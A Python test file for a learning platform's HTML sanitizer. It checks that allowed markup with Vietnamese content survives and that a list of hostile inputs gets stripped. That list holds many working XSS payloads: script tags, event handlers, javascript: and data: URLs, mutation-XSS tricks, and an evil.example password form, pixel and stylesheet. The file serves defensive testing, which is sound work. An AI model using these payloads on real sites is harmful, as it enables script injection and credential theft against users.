"""Rich text: what authors write stays, what attackers write goes."""

import re

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms.kernel import richtext
from lms.kernel.richtext import ATTRIBUTES, TAGS, clean, from_markdown, plain, shown

KEPT = [
    "<p>Đề án <strong>06</strong></p>",
    "<h2>Mục</h2><ul><li>một</li><li>hai</li></ul>",
    '<ol start="3"><li>ba</li></ol>',
    '<table><tbody><tr><td colspan="2">ô</td></tr></tbody></table>',
    '<img src="/media/7/poster.webp" alt="Sơ đồ" width="320">',
    '<p><span data-math="inline" data-latex="a^2 &lt; b">a^2 &lt; b</span></p>',
    '<div data-math="block" data-latex="\\frac{1}{2}">\\frac{1}{2}</div>',
    '<div class="plan-says"><p>Kế hoạch ghi</p></div>',
    "<blockquote><p>Điều 1</p></blockquote><hr>",
    '<a href="/courses/de-an-06" rel="noopener noreferrer">khóa học</a>',
    '<a href="https://dichvucong.gov.vn" rel="noopener noreferrer">cổng</a>',
    '<a href="mailto:a@b.vn" rel="noopener noreferrer">thư</a>',
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    '<img src="x" onerror="alert(1)">',
    '<img src="/media/a.png" onload=alert(1)>',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#x09;ScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="//evil.example/pixel.png">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="/media/../sign-out">',
    '<img src="/media/%2e%2e/sign-out">',
    '<img src="/sign-out">',
    '<img src="/media/a.png" srcset="//evil.example/x 2x">',
    '<iframe src="/"></iframe>',
    '<object data="/media/x.swf"></object><embed src="/media/x.swf">',
    '<form action="//evil.example"><input name="password"><button>Gửi</button></form>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<div hx-get="/sign-out" hx-trigger="load">x</div>',
    '<div x-data="alert(1)" @click="alert(1)" data-confirm>x</div>',
    '<div class="sign-in-panel">giả trang đăng nhập</div>',
    '<p id="main" name="cookie">x</p>',
    '<span data-math="inline" data-latex="\\href{javascript:x}{x}" onclick=x>x</span>',
    '<span data-math="evil" data-latex="x">x</span>',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<audio src=x onerror=alert(1)><video><source onerror=alert(1)></video>",
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<a target="_blank" href="https://evil.example">x</a>',
]


def elements(html):
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return [one for one in tree.iter() if isinstance(one.tag, str)][1:]


def assert_harmless(html):
    for element in elements(html):
        assert element.tag in TAGS, html
        allowed = ATTRIBUTES.get(element.tag, set()) | {"rel"}
        assert set(element.attrib) <= allowed, html
        assert re.match(r"/(media|static)/[^.]*", element.get("src", "/media/")), html
        assert ".." not in element.get("src", "")
        href = element.get("href", "#")
        assert re.match(r"https?://|mailto:|tel:|/(?![/\\])|#", href), html


@pytest.mark.parametrize("html", KEPT)
def test_what_authors_may_write_is_kept(html):
    assert clean(html) == html


@pytest.mark.parametrize("html", HOSTILE)
def test_what_attackers_write_is_taken_out(html):
    assert_harmless(clean(html))


@pytest.mark.parametrize("html", [*KEPT, *HOSTILE])
def test_cleaning_twice_changes_nothing_more(html):
    assert clean(clean(html)) == clean(html)


@given(st.text())
def test_any_text_comes_out_harmless(text):
    assert_harmless(clean(text))


@given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4))
def test_pieces_put_together_stay_harmless(pieces):
    assert_harmless(clean("".join(pieces)))


@given(st.sampled_from(HOSTILE), st.integers(1, 200), st.text(max_size=5))
def test_a_cut_piece_stays_harmless(html, at, between):
    assert_harmless(clean(html[:at] + between + html[at:]))


def test_what_is_shown_was_cleaned_even_if_it_was_stored_otherwise():
    assert shown('<p onclick="x">a</p>') == "<p>a</p>"
    assert shown(None) == ""


def test_a_formula_is_kept_short():
    html = f'<span data-math="inline" data-latex="{"x" * 9999}">x</span>'

    assert len(clean(html)) < richtext.LONGEST_FORMULA + 200


@pytest.mark.parametrize("html", HOSTILE[:4])
def test_a_program_is_told_to_whoever_sends_it(html):
    assert richtext.tries_to_run(html)


@pytest.mark.parametrize("html", KEPT)
def test_what_authors_may_write_is_no_program(html):
    assert not richtext.tries_to_run(html)


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<h2>Mục 1</h2><p>Một<br>hai</p>", "Mục 1 Một hai"),
        ("<ul><li>a</li><li>b</li></ul>", "a b"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a b"),
        ("", ""),
    ],
)
def test_the_words_alone_can_be_searched(html, words):
    assert plain(html) == words


def test_markdown_with_formulas_becomes_rich_text():
    html = from_markdown(
        "# Mục\n\nKhi $a < b$ thì:\n\n$$\\frac{1}{2}$$\n\n* một\n* hai"
    )

    assert '<span data-math="inline" data-latex="a &lt; b">a &lt; b</span>' in html
    assert '<div data-math="block" data-latex="\\frac{1}{2}">' in html
    assert "<li>một</li>" in html


@pytest.mark.parametrize(
    "markdown",
    [
        *HOSTILE,
        "[x](javascript:alert(1))",
        "[x](//evil.example)",
        "![x](//evil.example/a.png)",
        '$"><img src=x onerror=alert(1)>$',
        "$$</div><script>alert(1)</script>$$",
    ],
)
def test_hostile_markdown_becomes_text(markdown):
    assert_harmless(from_markdown(markdown))
